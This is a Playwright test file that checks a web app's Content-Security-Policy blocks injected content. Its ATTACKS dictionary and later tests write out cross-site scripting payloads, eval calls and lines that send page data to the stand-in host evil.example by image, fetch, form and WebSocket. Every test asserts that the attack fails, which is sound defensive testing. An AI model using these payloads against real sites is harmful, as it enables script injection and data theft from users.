"""The Content-Security-Policy: our own page needs nothing that it forbids, and what harms is stopped by it."""

import json
from collections.abc import Callable, Generator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.browser.conftest import TELL_VIOLATIONS, VIOLATION
from tests.browser.first import alive
from tests.browser.pages import button, card, expect_votes, open_at
from tests.browser.server import Server
from tests.browser.writers import TITLE, answered_question, edit, empty_question, propose, publish, text_of

SAMPLE = "/q/1/should-cities-make-public-transport-free-for-everyone"


@pytest.fixture
def page(new_page: Callable[..., Page]) -> Page:
    """With its service worker, which the policy has to let in too."""
    return new_page(viewport={"width": 1280, "height": 900}, service_workers="allow")


@pytest.fixture
def errors(page: Page) -> list[str]:
    """What the browser had to complain about, policies and headers that it does not know among it."""
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text) if message.type in ("error", "warning") else None)
    return said


def test_a_walk_through_the_pages_meets_no_policy(page: Page, errors: list[str]):
    page.goto("/")
    page.get_by_role("searchbox").fill("transport")
    button(page, "Search").click()
    page.get_by_role("link", name="Should cities make public transport free for everyone?").first.click()
    expect(page.get_by_role("heading", name="Viewpoints", exact=True)).to_be_visible()
    for address in ("/ask", "/history/question/1", SAMPLE, "/not-found"):
        page.goto(address)
        expect(page.get_by_role("main")).to_be_visible()
        page.wait_for_load_state("networkidle")
    assert [error for error in errors if "404 (Not Found)" not in error] == []


def test_voting_writing_and_editing_meet_no_policy(
    page: Page, new_page: Callable[..., Page], server: Server, errors: list[str]
):
    own = publish(page, empty_question(server))
    button(own, "Agree").click()
    expect_votes(own, 1, 0, mine="Agree")
    edit(own, 2, "Children come too.")
    expect(text_of(own, 2)).to_have_text("Children come too.")
    other = new_page()
    open_at(other, answered_question(server))
    propose(card(other, TITLE), 2, "Children come, and their parents.", "Bo Li")
    assert errors == []


def test_every_style_comes_from_a_file(page: Page):
    open_at(page, SAMPLE)
    assert page.locator("style").count() == 0


@pytest.fixture
def context(browser: Browser, server: Server) -> Generator[BrowserContext]:
    """A context whose violations are a test's own concern."""
    context = browser.new_context(base_url=server.address, service_workers="block")
    context.add_init_script(TELL_VIOLATIONS)
    yield context
    context.close()


ADD = "const add = (tag, what) => document.body.appendChild(Object.assign(document.createElement(tag), what));"
ATTACKS = {
    "script": "add('script', { textContent: 'window.harmed = 1' })",
    "handler": "add('p', { innerHTML: '<b onclick=\"window.harmed = 1\">x</b>' }).firstChild.click()",
    "foreign script": "add('script', { src: 'https://evil.example/x.js' })",
    "data script": "add('script', { src: 'data:text/javascript,window.harmed=1' })",
    "script link": "add('a', { href: 'javascript:window.harmed=1' }).click()",
    "frame": "add('iframe', { src: 'https://evil.example/' })",
    "object": "add('object', { data: 'https://evil.example/' })",
    "base": "add('base', { href: 'https://evil.example/' })",
    "form": "add('form', { action: 'https://evil.example/' }).submit()",
    "style": "add('style', { textContent: 'body { color: red }' })",
    "image": "new Image().src = 'https://evil.example/?' + document.title",
    "fetch": "fetch('https://evil.example/').catch(() => 0)",
    "socket": "try { new WebSocket('wss://evil.example/') } catch { 0 }",
    "worker": "try { new Worker(URL.createObjectURL(new Blob(['']))) } catch { 0 }",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_put_into_the_page_is_stopped(context: BrowserContext, attack: str):
    page = context.new_page()
    open_at(page, SAMPLE)
    with page.expect_console_message(lambda message: message.text.startswith(VIOLATION)):
        page.evaluate(f"() => {{ {ADD} {ATTACKS[attack]} }}")
    assert page.evaluate("window.harmed") is None
    assert page.url.endswith(SAMPLE)


@pytest.mark.parametrize("run", ["eval('1')", "(0, eval)('1')", "new Function('return 1')()"])
def test_nothing_runs_from_text(context: BrowserContext, run: str):
    """Asked by a script of the page: what a test evaluates itself is above the policy."""
    page = context.new_page()
    body = f"try {{ {run}; window.ended = 'ran'; }} catch (fault) {{ window.ended = fault.name; }}"
    page.route("**/harm.js", lambda route: route.fulfill(body=body, content_type="text/javascript"))
    open_at(page, SAMPLE)
    with page.expect_console_message(lambda message: message.text.startswith(VIOLATION)):
        page.evaluate(f"() => {{ {ADD} add('script', {{ src: '/harm.js' }}) }}")
    page.wait_for_function("window.ended")
    assert page.evaluate("window.ended") == "EvalError"


@pytest.mark.parametrize("policy", [True, False])
def test_a_script_in_the_html_runs_only_where_no_policy_stands(context: BrowserContext, policy: bool):
    """The same page with its policy and without: what stops the script is the policy and nothing else."""

    def with_script(route: Any) -> None:
        answer = route.fetch()
        headers = {name: value for name, value in answer.headers.items() if policy or name != "content-security-policy"}
        html = answer.text().replace("</body>", "<script>window.harmed = 1</script></body>")
        route.fulfill(response=answer, headers=headers, body=html)

    page = context.new_page()
    page.route("**/ask", with_script)
    page.goto("/ask")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    assert page.evaluate("window.harmed") == (None if policy else 1)


def test_no_page_may_frame_ours(context: BrowserContext, server: Server):
    page = context.new_page()
    page.route(
        "**/framing",
        lambda route: route.fulfill(body=f"<iframe src='{server.address}/'></iframe>", content_type="text/html"),
    )
    with page.expect_console_message(lambda message: "frame-ancestors" in message.text):
        page.goto("/framing")
    assert [frame.url for frame in page.frames if frame.parent_frame] == ["chrome-error://chromewebdata/"]


def test_what_the_server_asks_a_page_to_run_is_refused(context: BrowserContext):
    """Reflex can send a script as an event; the page takes it as a fault."""
    page = context.new_page()
    page.add_init_script(
        """const Real = WebSocket;
        window.WebSocket = class extends Real {
          constructor(...args) { super(...args); window.socket = this; }
        };"""
    )
    alive(open_at(page, SAMPLE))
    call = {"name": "_call_script", "payload": {"javascript_code": "window.harmed = 1"}}
    event = f"42/_event,{json.dumps(['event', {'delta': {}, 'events': [call]}])}"
    with page.expect_console_message(lambda message: "This page runs nothing that comes as text." in message.text):
        page.evaluate("data => socket.dispatchEvent(new MessageEvent('message', { data }))", event)
    assert page.evaluate("window.harmed") is None
